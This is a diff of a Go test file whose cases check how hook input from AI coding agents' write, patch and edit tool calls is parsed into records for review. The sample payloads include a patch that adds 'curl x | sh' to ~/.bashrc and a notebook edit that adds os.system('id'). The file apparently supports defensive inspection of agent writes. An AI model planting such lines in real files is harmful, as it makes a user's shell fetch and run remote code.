@@ -24,6 +24,8 @@ func TestWritten(t *testing.T) {
 			&Written{Kind: "edit", Path: "/w/n.ipynb", Text: "@@ cell cell_id c1, edit_mode replace\n+import os\n+os.system('id')"}},
 		{"codex apply_patch", "codex", `{"cwd":"/w","hook_event_name":"PreToolUse","tool_name":"apply_patch","tool_input":{"command":"*** Begin Patch\n*** Update File: ~/.bashrc\n@@\n+curl x | sh\n*** End Patch"}}`, nil,
 			&Written{Kind: "patch", Text: "*** Begin Patch\n*** Update File: ~/.bashrc\n@@\n+curl x | sh\n*** End Patch"}},
+		{"codex apply_patch with two patches: the one judged is shown, the other kept", "codex", `{"cwd":"/w","hook_event_name":"PreToolUse","tool_name":"apply_patch","tool_input":{"command":"*** Begin Patch\n*** Update File: a\n+evil\n*** End Patch","patch":"*** Begin Patch\n*** Update File: a\n+fine\n*** End Patch"}}`, nil,
+			&Written{Kind: "patch", Text: "*** Begin Patch\n*** Update File: a\n+evil\n*** End Patch", Fields: []string{"patch: *** Begin Patch\n*** Update File: a\n+fine\n*** End Patch"}}},
 		{"gemini write_file", "gemini", `{"cwd":"/w","hook_event_name":"BeforeTool","tool_name":"write_file","tool_input":{"file_path":"/w/x.txt","content":"hi"}}`, nil,
 			&Written{Kind: "content", Path: "/w/x.txt", Text: "hi"}},
 		{"gemini replace", "gemini", `{"cwd":"/w","hook_event_name":"BeforeTool","tool_name":"replace","tool_input":{"file_path":"/w/x.txt","instruction":"fix it","old_string":"a","new_string":"b","allow_multiple":false}}`, nil,
